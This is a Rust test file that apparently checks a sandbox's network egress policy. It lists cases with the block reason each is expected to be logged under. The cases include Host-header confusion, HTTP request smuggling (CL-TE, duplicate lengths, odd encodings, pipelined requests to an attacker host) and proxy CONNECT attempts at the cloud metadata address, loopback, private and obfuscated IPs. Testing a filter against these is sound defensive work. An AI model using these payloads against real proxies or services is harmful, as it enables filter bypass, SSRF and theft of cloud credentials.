//! HTTP: hosts, requests within requests, and the proxy that is asked by name.

use omnirun_egress_policy::Reason;
use omnirun_guest_net::{GATEWAY_IP, PROXY_PORT};

use super::{
    Act, Expect, Table,
    control::request,
    hello::Hello,
    web::{NAMELESS, evil, pieces_to},
};
use crate::nonce::Nonce;

pub(super) fn fill(table: &mut Table<'_>) {
    http(table);
    smuggling(table);
    explicit(table);
}

/// Hosts of plain HTTP.
fn http(table: &mut Table<'_>) {
    let listed = table.world.listed.clone();
    let to = format!("@{}", listed.name);
    let attacker = table.world.attacker.clone();
    let (l, a) = (listed.name.as_str(), attacker.as_str());
    type Case<'a> = (&'a str, &'static [u8], &'a str, String, &'a [Reason]);
    let heads: [Case<'_>; 9] = [
        (
            "host-unlisted",
            &[1, 2],
            "another host than the one it is sent to",
            format!("GET /@N HTTP/1.1\r\nHost: {a}\r\n\r\n"),
            &[Reason::NotListed],
        ),
        (
            "host-missing",
            &[3],
            "no host",
            "GET /@N HTTP/1.1\r\nUser-Agent: x\r\n\r\n".to_owned(),
            &NAMELESS,
        ),
        (
            "host-twice",
            &[13, 14],
            "two hosts",
            format!("GET /@N HTTP/1.1\r\nHost: {l}\r\nHost: {a}\r\n\r\n"),
            &NAMELESS,
        ),
        (
            "host-and-uri",
            &[14],
            "one host in the address and another in the head",
            format!("GET http://{a}/@N HTTP/1.1\r\nHost: {l}\r\n\r\n"),
            &NAMELESS,
        ),
        (
            "uri-and-host",
            &[14],
            "the same the other way round",
            format!("GET http://{l}/@N HTTP/1.1\r\nHost: {a}\r\n\r\n"),
            &NAMELESS,
        ),
        (
            "host-nul",
            &[13],
            "a NUL byte in the host",
            format!("GET /@N HTTP/1.1\r\nHost: {l}\0.{a}\r\n\r\n"),
            &NAMELESS,
        ),
        (
            "host-folded",
            &[13, 14],
            "a host on two lines",
            format!("GET /@N HTTP/1.1\r\nHost: {l}\r\n {a}\r\n\r\n"),
            &NAMELESS,
        ),
        (
            "host-user",
            &[13, 14],
            "a listed host as the user of another",
            format!("GET http://{l}@{a}/@N HTTP/1.1\r\nHost: {l}@{a}\r\n\r\n"),
            &NAMELESS,
        ),
        (
            "http2",
            &[14],
            "HTTP/2 without TLS",
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n@N".to_owned(),
            &NAMELESS,
        ),
    ];
    for (id, bypass, what, head, reasons) in heads {
        table
            .add(
                format!("http-{id}"),
                bypass,
                format!("a request with {what}"),
                |nonce| Act::tcp(&to, 80, head.replace("@N", &nonce.hex())),
            )
            .expect(Expect::Local)
            .logged(reasons);
    }
    table
        .add("http-upgrade", &[14], "an upgrade to HTTP/2 without TLS: it stays with the listed host", |nonce| {
            let head = format!(
                "GET /{} HTTP/1.1\r\nHost: {l}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
                nonce.hex()
            );
            Act::tcp(&to, 80, head)
        })
        .expect(Expect::Led(listed.all()));
    table
        .add(
            "tls-on-80",
            &[13],
            "a hello for an attacker's name, to port 80",
            |nonce| Act::tcp(&to, 80, Hello::new(nonce).name(a).record()),
        )
        .expect(Expect::Local)
        .logged(&NAMELESS);
}

/// A request within a request.
fn smuggling(table: &mut Table<'_>) {
    let listed = table.world.listed.clone();
    let to = format!("@{}", listed.name);
    let (l, a) = (listed.name.clone(), table.world.attacker.clone());
    let hidden = |nonce: Nonce| format!("GET /{} HTTP/1.1\r\nHost: {a}\r\n\r\n", nonce.hex());
    table
        .add(
            "http-second-request",
            &[14],
            "a request for a listed host, and one for another on the same connection",
            |nonce| {
                let first = format!("GET / HTTP/1.1\r\nHost: {l}\r\n\r\n").into_bytes();
                pieces_to(&to, 80, vec![first, hidden(nonce).into_bytes()], 500)
            },
        )
        .expect(Expect::Led(Vec::new()))
        .logged(&[Reason::NotListed]);
    table
        .add("http-pipelined", &[14], "the same at once", |nonce| {
            Act::tcp(
                &to,
                80,
                format!("GET / HTTP/1.1\r\nHost: {l}\r\n\r\n{}", hidden(nonce)),
            )
        })
        .expect(Expect::Led(Vec::new()))
        .logged(&[Reason::NotListed]);
    let ambiguous: [(&str, &str, &str); 4] = [
        (
            "cl-te",
            "a length and a transfer encoding",
            "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n",
        ),
        (
            "cl-cl",
            "two lengths",
            "Content-Length: 0\r\nContent-Length: 90\r\n",
        ),
        (
            "te-odd",
            "an encoding that is spelt oddly",
            "Transfer-Encoding: xchunked\r\nTransfer-Encoding : chunked\r\n",
        ),
        ("cl-sign", "a length with a sign", "Content-Length: +0\r\n"),
    ];
    for (id, what, head) in ambiguous {
        table
            .add(
                format!("http-{id}"),
                &[14],
                format!("a request hidden behind one with {what}"),
                |nonce| {
                    Act::tcp(
                        &to,
                        80,
                        format!(
                            "POST / HTTP/1.1\r\nHost: {l}\r\n{head}\r\n0\r\n\r\n{}",
                            hidden(nonce)
                        ),
                    )
                },
            )
            .expect(Expect::Led(Vec::new()))
            .logged(&[Reason::Malformed, Reason::NotListed]);
    }
}

/// The HTTP proxy, which is asked by name.
fn explicit(table: &mut Table<'_>) {
    let view = Table {
        mode: table.mode,
        world: table.world,
        list: Vec::new(),
    };
    let listed = table.world.listed.name.clone();
    let address = table.world.unlisted.address();
    let private = table.world.private.first().copied();
    let host = table.world.host.first().copied();
    let mut asks: Vec<(&str, &'static [u8], String, Vec<Reason>)> = vec![
        (
            "unlisted",
            &[14],
            format!("X.{}:443", table.world.attacker),
            vec![Reason::NotListed],
        ),
        ("address", &[3, 14], format!("{address}:4431"), NAMELESS.to_vec()),
        ("port", &[14], format!("{listed}:22"), vec![Reason::PortNotListed]),
        (
            "loopback",
            &[11],
            "127.0.0.1:22".to_owned(),
            vec![Reason::SpecialAddress, Reason::NotListed, Reason::NoName],
        ),
        (
            "localhost",
            &[11],
            "localhost:22".to_owned(),
            vec![Reason::NotListed, Reason::SpecialAddress],
        ),
        (
            "metadata",
            &[10],
            "169.254.169.254:80".to_owned(),
            vec![Reason::SpecialAddress, Reason::NotListed, Reason::NoName],
        ),
        (
            "ipv6",
            &[9, 10],
            "[fd00:ec2::254]:80".to_owned(),
            vec![
                Reason::SpecialAddress,
                Reason::NotListed,
                Reason::NoName,
                Reason::Malformed,
            ],
        ),
        (
            "mapped",
            &[9, 10],
            "[::ffff:169.254.169.254]:80".to_owned(),
            vec![
                Reason::SpecialAddress,
                Reason::NotListed,
                Reason::NoName,
                Reason::Malformed,
            ],
        ),
        (
            "number",
            &[9, 13],
            "2130706433:22".to_owned(),
            vec![
                Reason::NotListed,
                Reason::NoName,
                Reason::Malformed,
                Reason::SpecialAddress,
            ],
        ),
    ];
    let special = vec![Reason::SpecialAddress, Reason::NotListed, Reason::NoName];
    asks.extend(private.map(|address| ("private", &[12][..], format!("{address}:445"), special.clone())));
    asks.extend(host.map(|address| {
        (
            "host",
            &[11][..],
            format!("{address}:{}", view.world.host_ports.first().unwrap_or(&22)),
            special,
        )
    }));
    for (id, bypass, target, reasons) in asks {
        table
            .add(
                format!("connect-{id}"),
                bypass,
                format!("ask the HTTP proxy to connect to {target}"),
                |nonce| {
                    let target = target.replace('X', &format!("x{}", nonce.hex()));
                    let head = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
                    pieces_to(
                        &GATEWAY_IP.to_string(),
                        PROXY_PORT,
                        vec![head.into_bytes(), nonce.hex().into_bytes()],
                        200,
                    )
                },
            )
            .expect(Expect::Local)
            .named(target.rsplit_once(':').map_or("", |(name, _)| name))
            .logged(&reasons);
    }
    table
        .add(
            "connect-other-sni",
            &[1, 14],
            format!("ask it to connect to {listed}, and there say a hello for an attacker's name"),
            |nonce| {
                let head =
                    format!("CONNECT {listed}:443 HTTP/1.1\r\nHost: {listed}:443\r\n\r\n").into_bytes();
                let hello = Hello::new(nonce).name(&evil(&view, nonce)).record();
                pieces_to(&GATEWAY_IP.to_string(), PROXY_PORT, vec![head, hello], 500)
            },
        )
        .expect(Expect::Local)
        .logged(&[Reason::NotListed, Reason::Malformed]);
    table
        .add(
            "proxy-unlisted",
            &[14],
            "ask it for a page of an attacker's",
            |nonce| {
                let host = evil(&view, nonce);
                Act::tcp(
                    GATEWAY_IP,
                    PROXY_PORT,
                    format!("GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"),
                )
            },
        )
        .expect(Expect::Local)
        .logged(&[Reason::NotListed]);
    table
        .add(
            "proxy-relative",
            &[14],
            "ask it for a page of nobody's",
            |nonce| {
                Act::tcp(
                    GATEWAY_IP,
                    PROXY_PORT,
                    request(&listed, nonce).replace("Host: ", "X-Host: "),
                )
            },
        )
        .expect(Expect::Local)
        .logged(&NAMELESS);
}
